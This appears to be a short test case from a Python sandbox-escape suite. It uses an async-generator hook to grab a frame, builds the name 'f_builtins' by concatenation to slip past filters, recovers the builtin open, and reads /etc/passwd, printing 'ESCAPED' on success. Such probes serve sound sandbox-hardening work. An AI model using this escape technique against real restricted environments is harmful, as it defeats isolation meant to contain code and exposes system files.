# tries: a hook of sys is handed each asynchronous generator
# class: callbacks
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import sys

seen = []
sys.set_asyncgen_hooks(firstiter=seen.append)


async def g():
    yield


async def main():
    async for x in g():
        use(pick(seen[0].ag_frame))


try:
    main().send(None)
except StopIteration:
    pass
